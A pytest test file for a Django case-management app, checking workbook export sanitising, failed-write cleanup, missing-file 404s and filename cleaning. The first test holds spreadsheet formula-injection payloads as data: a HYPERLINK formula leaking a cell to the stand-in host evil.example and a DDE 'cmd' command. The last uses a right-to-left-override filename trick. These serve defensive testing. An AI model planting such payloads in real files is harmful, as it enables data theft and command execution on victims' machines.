"""Error workbook without formulas, no partial file on a failed write, a missing file is a clear 404, clean names."""

import io
import os

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from openpyxl import load_workbook

from cases.domain.importing import error_workbook, plan_import
from qianshan.common.uploads import display_name
from tests.cases.helpers import sheet_bytes
from tests.factories import InspectionFactory, UnitFactory

ROW = [1, "D2LN202107160012", "问题", "大孤山镇", "噪声", "否", "明天", "生态环境分局", ""]


@pytest.mark.django_db
def test_error_workbook_has_no_formula_cells():
    UnitFactory(name="大孤山镇", kind="region")
    inspection = InspectionFactory(code="C2")
    evil = [
        [
            1,
            "D2LN1",
            '=HYPERLINK("http://evil.example/?"&A1,"点此")',
            "大孤山镇",
            "噪声",
            "否",
            "明天",
            "x",
            "",
        ],
        [2, "D2LN2", "问题", "大孤山镇", "噪声", "否", "2021-07-16", "x", "=cmd|' /C calc'!A0"],
        [3, "D2LN3", "+1+1", "大孤山镇", "噪声", "否", "@SUM(1)", "x", "-2+3"],
    ]
    data = sheet_bytes(evil)
    report = plan_import(data, inspection)
    assert report.problems
    book = load_workbook(io.BytesIO(error_workbook(data, report.problems)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert '=HYPERLINK("http://evil.example/?"&A1,"点此")' in texts  # kept, as text
    assert "=cmd|' /C calc'!A0" in texts


class FailingContent(ContentFile):
    """Half of the bytes reach the disk, then the disk is full."""

    def chunks(self, chunk_size=None):
        yield self.file.getvalue()[: self.size // 2]
        raise OSError(28, "No space left on device")


def test_failed_write_leaves_no_partial_file(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    name = "evidence/" + "a" * 64 + ".pdf"
    with pytest.raises(OSError, match="No space left"):
        default_storage.save(name, FailingContent(b"%PDF-1.4 " + b"x" * 10000, name=name))
    assert not os.path.exists(tmp_path / name)
    assert default_storage.save(name, ContentFile(b"whole", name=name)) == name  # the name is free


@pytest.mark.django_db
def test_missing_evidence_file_is_a_clear_404(users, login, unit_a):
    from cases.domain.evidence import Upload, add_attachments
    from cases.enums import AttachmentKind
    from tests.cases.helpers import png_bytes
    from tests.factories import CaseFactory

    case = CaseFactory(lead_unit=unit_a)
    [attachment] = add_attachments(
        case, [Upload("现场.png", png_bytes(), AttachmentKind.PHOTO)], actor=users["staff"]
    )
    os.remove(attachment.file.path)
    response = login(users["staff"]).get(f"/cases/files/{attachment.pk}/")
    assert response.status_code == 404
    assert "文件已不在服务器上" in response.content.decode()


def test_display_name_drops_bidi_and_control_characters():
    assert display_name("报告\u202efdp.exe") == "报告fdp.exe"
    assert display_name("C:\\材料\\现场\u200b照片\x00.jpg") == "现场照片.jpg"
    assert display_name("\u2066\u2069") == "附件"
